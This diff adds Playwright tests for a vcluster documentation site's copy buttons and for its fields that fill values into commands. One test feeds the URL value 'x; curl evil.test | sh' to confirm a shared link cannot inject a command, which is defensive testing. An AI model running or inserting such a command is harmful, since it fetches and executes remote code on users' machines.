@@ -1,0 +1,324 @@
+import type { Locator, Page } from '@playwright/test';
+import { content } from './support/shell.ts';
+import { at } from './support/target.ts';
+import { expect, test, visit } from './support/test.ts';
+
+/** Commands with variables, in tabs; further blocks without. */
+const BASICS = '/docs/vcluster/deploy/control-plane/container/basics';
+const SLEEP = '/docs/vcluster/manage/sleep-wakeup';
+
+const CREATE = 'vcluster create orchard --namespace team-orchard --values vcluster.yaml';
+
+const block = (page: Page, text: string | RegExp): Locator =>
+  content(page).getByRole('figure').filter({ hasText: text }).first();
+const copy = (figure: Locator): Locator => figure.getByRole('button', { name: 'Copy code' });
+const status = (page: Page): Locator => page.locator('[data-announcer]');
+
+/** What the page wrote to the clipboard, by its interface. */
+async function spyOnClipboard(page: Page, outcome: 'works' | 'is denied' | 'is missing'): Promise<void> {
+  await page.addInitScript((how) => {
+    const written: string[] = [];
+    Object.assign(window, { written });
+    const writeText = async (text: string) => {
+      if (how === 'is denied') throw new DOMException('Write permission denied.', 'NotAllowedError');
+      written.push(text);
+    };
+    Object.defineProperty(navigator, 'clipboard', {
+      value: how === 'is missing' ? undefined : { writeText },
+    });
+  }, outcome);
+}
+
+const written = (page: Page): Promise<string[]> =>
+  page.evaluate(() => (window as unknown as { written: string[] }).written);
+
+/** What the fallback copied: the browser's own copy event. */
+async function spyOnSelection(page: Page, works: boolean): Promise<void> {
+  await page.addInitScript((isAllowed) => {
+    const selected: string[] = [];
+    Object.assign(window, { selected });
+    document.execCommand = (command: string) => {
+      const area = document.activeElement;
+      if (command === 'copy' && area instanceof HTMLTextAreaElement)
+        selected.push(area.value.slice(area.selectionStart, area.selectionEnd));
+      return isAllowed;
+    };
+  }, works);
+}
+
+const selected = (page: Page): Promise<string[]> =>
+  page.evaluate(() => (window as unknown as { selected: string[] }).selected);
+
+test.describe('copying a code block', () => {
+  test('uses the browser’s clipboard interface', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, SLEEP);
+    const figure = block(page, 'vcluster connect orchard');
+    await figure.hover();
+    await copy(figure).click();
+    await expect.poll(() => written(page)).toEqual(['vcluster connect orchard --namespace team-orchard']);
+  });
+
+  test('shows a check on success, and reverts after 2 seconds', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, SLEEP);
+    await page.waitForLoadState('networkidle');
+    const figure = block(page, 'vcluster connect orchard');
+    await page.evaluate(() => {
+      const times: number[] = [];
+      Object.assign(window, { times });
+      new MutationObserver(() => times.push(performance.now())).observe(document.body, {
+        attributeFilter: ['data-state'],
+        subtree: true,
+      });
+    });
+    await copy(figure).click();
+    await expect(copy(figure)).toHaveAttribute('data-state', 'copied');
+    await expect(status(page)).toHaveText('Copied');
+    await expect(copy(figure)).not.toHaveAttribute('data-state');
+    const [shown = 0, gone = 0] = await page.evaluate(() => (window as unknown as { times: number[] }).times);
+    expect(gone - shown).toBeGreaterThanOrEqual(1990);
+    expect(gone - shown).toBeLessThan(2600);
+  });
+
+  test('a second press starts the two seconds again', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, SLEEP);
+    const button = copy(block(page, 'vcluster connect orchard'));
+    await button.click();
+    await expect(button).toHaveAttribute('data-state', 'copied');
+    await page.waitForTimeout(1300);
+    await button.click();
+    await page.waitForTimeout(1300);
+    await expect(button).toHaveAttribute('data-state', 'copied');
+  });
+
+  for (const outcome of ['is denied', 'is missing'] as const) {
+    test(`falls back to a selection where the interface ${outcome}, and keeps the focus`, async ({
+      page,
+    }) => {
+      await spyOnClipboard(page, outcome);
+      await spyOnSelection(page, true);
+      await visit(page, SLEEP);
+      const button = copy(block(page, 'vcluster connect orchard'));
+      await button.focus();
+      await page.keyboard.press('Enter');
+      await expect(button).toHaveAttribute('data-state', 'copied');
+      expect(await selected(page)).toEqual(['vcluster connect orchard --namespace team-orchard']);
+      await expect(button).toBeFocused();
+      await expect(page.locator('textarea')).toHaveCount(0);
+    });
+
+    test(`shows a red cross where the interface ${outcome} and the selection fails too`, async ({ page }) => {
+      await spyOnClipboard(page, outcome);
+      await spyOnSelection(page, false);
+      await visit(page, SLEEP);
+      const button = copy(block(page, 'vcluster connect orchard'));
+      await button.click();
+      await expect(button).toHaveAttribute('data-state', 'failed');
+      const [red, rest] = await button.evaluate((element) => {
+        const before = getComputedStyle(element).color;
+        const probe = Object.assign(document.createElement('i'), { style: 'color: var(--color-danger)' });
+        element.append(probe);
+        const danger = getComputedStyle(probe).color;
+        probe.remove();
+        return [danger, before];
+      });
+      expect(rest).toBe(red);
+      await expect(status(page)).toHaveText(/^Copying failed/);
+      await expect(button).not.toHaveAttribute('data-state');
+    });
+  }
+
+  test('works on a page without HTTPS, where browsers have no clipboard interface', async ({
+    page,
+    baseURL,
+  }) => {
+    const port = new URL(baseURL ?? '').port;
+    test.skip(port === '', 'The host under test has no port of its own.');
+    await page.route('http://insecure.test/**', async (route) => {
+      const path = new URL(route.request().url());
+      const response = await route.fetch({ url: `${baseURL}${path.pathname}${path.search}` });
+      await route.fulfill({ response });
+    });
+    await page.goto(`http://insecure.test${at(SLEEP)}`);
+    await page.waitForLoadState('networkidle');
+    expect(await page.evaluate(() => window.isSecureContext)).toBe(false);
+    const copied = page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener('copy', () => resolve(String(getSelection() ?? '')), { once: true });
+        }),
+    );
+    const button = copy(block(page, 'vcluster connect orchard'));
+    await button.click();
+    await expect(button).toHaveAttribute('data-state', 'copied');
+    await copied;
+  });
+
+  test('copies a session’s commands without prompts and output', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, SLEEP);
+    const figure = content(page).locator('figure[data-code=bash]').last();
+    await figure.locator('code').evaluate((code) => {
+      code.textContent =
+        '$ vcluster list\nNAME     STATUS\norchard  Running\n$ vcluster connect \\\n    orchard';
+    });
+    await copy(figure).click();
+    await expect.poll(() => written(page)).toEqual(['vcluster list\nvcluster connect \\\n    orchard']);
+  });
+
+  test('works on pages that were reached without loading a document', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, SLEEP);
+    await page.getByRole('link', { name: /^Next/ }).click();
+    await expect(page).not.toHaveURL(at(SLEEP));
+    const button = content(page).getByRole('button', { name: 'Copy code' }).first();
+    await button.click();
+    await expect(button).toHaveAttribute('data-state', 'copied');
+    expect(await written(page)).toHaveLength(1);
+  });
+
+  test('is offered without hovering on touch, and covers no one-line command', async ({
+    browser,
+    baseURL,
+  }) => {
+    const context = await browser.newContext({
+      viewport: { width: 390, height: 844 },
+      hasTouch: true,
+      isMobile: true,
+      ...(baseURL !== undefined && { baseURL }),
+    });
+    const page = await context.newPage();
+    await page.goto(at(SLEEP));
+    const figures = await content(page)
+      .getByRole('figure')
+      .filter({ has: page.locator('code') })
+      .all();
+    expect(figures.length).toBeGreaterThan(2);
+    for (const figure of figures) {
+      if (!(await figure.isVisible())) continue;
+      const button = await copy(figure).boundingBox();
+      const pre = await figure.locator('pre').boundingBox();
+      expect((pre?.x ?? 0) + (pre?.width ?? 0)).toBeLessThanOrEqual(button?.x ?? 0);
+      await expect(copy(figure)).toHaveCSS('opacity', '1');
+    }
+    await context.close();
+  });
+});
+
+test.describe('code with variables', () => {
+  const input = (page: Page, name: string): Locator =>
+    block(page, /vcluster create/).getByRole('textbox', { name, exact: true });
+
+  test('shows the defaults, and inputs above the block', async ({ page }) => {
+    await visit(page, BASICS);
+    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
+    const field = await input(page, 'NAMESPACE').boundingBox();
+    const code = await block(page, /vcluster create/)
+      .locator('code')
+      .boundingBox();
+    expect((field?.y ?? 0) + (field?.height ?? 0)).toBeLessThan(code?.y ?? 0);
+  });
+
+  test('what is typed fills the shown and the copied code, in all blocks with the same name', async ({
+    page,
+  }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, BASICS);
+    await input(page, 'NAMESPACE').fill('team-blue');
+    const filled = CREATE.replace('team-orchard', 'team-blue');
+    await expect(block(page, /vcluster create/).locator('code')).toHaveText(filled);
+    await copy(block(page, /vcluster create/)).click();
+    await expect.poll(() => written(page)).toEqual([filled]);
+    await content(page).getByRole('tab', { name: 'Helm', exact: true }).click();
+    await expect(block(page, 'helm upgrade').locator('code')).toContainText('--namespace team-blue');
+    await expect(
+      block(page, 'helm upgrade').getByRole('textbox', { name: 'NAMESPACE', exact: true }),
+    ).toHaveValue('team-blue');
+  });
+
+  test('an emptied input brings the default back', async ({ page }) => {
+    await visit(page, BASICS);
+    await input(page, 'NAME').fill('mine');
+    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
+    await input(page, 'NAME').fill('');
+    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
+  });
+
+  test('is kept for the visit, and for no other', async ({ page, context }) => {
+    await visit(page, BASICS);
+    await input(page, 'NAME').fill('mine');
+    await page.reload();
+    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
+    await expect(input(page, 'NAME')).toHaveValue('mine');
+    const other = await context.newPage();
+    await other.goto(at(BASICS));
+    await other.waitForLoadState('networkidle');
+    await expect(block(other, /vcluster create/).locator('code')).toHaveText(CREATE);
+  });
+
+  test('never reaches the address unless it is shared', async ({ page }) => {
+    await spyOnClipboard(page, 'works');
+    await visit(page, BASICS);
+    await input(page, 'NAME').fill('mine');
+    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
+    expect(page.url()).not.toContain('mine');
+    await block(page, /vcluster create/)
+      .getByRole('button', { name: 'Share' })
+      .click();
+    await expect(page).toHaveURL(/\?v\.NAME=mine$/);
+    await expect(status(page)).toHaveText('Link copied');
+    expect(await written(page)).toEqual([page.url()]);
+  });
+
+  test('a shared address fills the code, and gives way to what is typed', async ({ page }) => {
+    await visit(page, `${BASICS}?v.NAME=shared`);
+    await expect(block(page, /vcluster create/).locator('code')).toContainText('create shared');
+    await input(page, 'NAME').fill('mine');
+    await expect(page).toHaveURL(at(BASICS));
+  });
+
+  test('an address cannot slip a command into the code', async ({ page }) => {
+    await visit(page, `${BASICS}?v.NAME=${encodeURIComponent('x; curl evil.test | sh')}`);
+    await page.waitForLoadState('networkidle');
+    await page.waitForTimeout(500);
+    await expect(block(page, /vcluster create/).locator('code')).toHaveText(CREATE);
+  });
+
+  test('keeps its colours', async ({ page }) => {
+    await visit(page, BASICS);
+    await input(page, 'NAME').fill('mine');
+    const code = block(page, /vcluster create mine/).locator('code');
+    expect(await code.locator('span').count()).toBeGreaterThan(2);
+  });
+
+  test('fills version variables at build', async ({ request }) => {
+    const html = await (await request.get(at(BASICS))).text();
+    expect(html).not.toContain('[[VERSION:');
+    expect(html).not.toContain('[[VAR:');
+  });
+
+  test('works where storage is forbidden', async ({ page }) => {
+    await page.addInitScript(() =>
+      Object.defineProperty(window, 'sessionStorage', {
+        get() {
+          throw new DOMException('denied', 'SecurityError');
+        },
+      }),
+    );
+    await visit(page, BASICS);
+    await input(page, 'NAME').fill('mine');
+    await expect(block(page, /vcluster create/).locator('code')).toContainText('create mine');
+  });
+});
+
+test.describe('code with variables, without JavaScript', () => {
+  test.use({ javaScriptEnabled: false });
+
+  test('shows the defaults and no inputs', async ({ page }) => {
+    await page.goto(at(BASICS));
+    await expect(content(page).getByText(CREATE)).toBeVisible();
+    await expect(content(page).getByRole('textbox')).toHaveCount(0);
+  });
+});
